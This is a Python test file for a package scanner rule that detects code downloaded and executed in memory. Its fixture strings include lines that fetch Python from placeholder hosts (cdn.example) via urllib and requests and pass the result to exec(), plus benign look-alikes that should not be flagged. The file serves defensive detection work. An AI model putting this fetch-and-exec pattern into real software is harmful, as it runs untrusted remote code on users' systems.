"""Code fetched and run in memory (exec of a download): a download-and-run without a file, reported at the exec
and at the fetch; beside look-alikes that exec a local file or fetch data they never run."""

from pypi_platform_tests.lib.scans.python_scan import found, rules


def _lines(source: str, rule: str) -> list[int]:
    return [line for found_rule, line in found(source) if found_rule == rule]


def test_dropper_download_and_run_of_fetched_code_in_memory():
    source = """
    import requests, urllib.request
    def prepare():
        code = urllib.request.urlopen("https://cdn.example/p.py").read()
        exec(code, {"__name__": "__prep__"})
    exec(requests.get("https://cdn.example/q.py").text)
    """
    assert sorted(set(_lines(source, "dropper.download-and-run"))) == [4, 5, 6]


def test_exec_of_a_local_file_and_a_fetch_that_is_parsed_are_no_download_and_run():
    source = """
    import json, requests
    exec(open("pkg/version.py").read())
    settings = json.loads(requests.get("https://api.example/settings").text)
    """
    assert "dropper.download-and-run" not in rules(source)
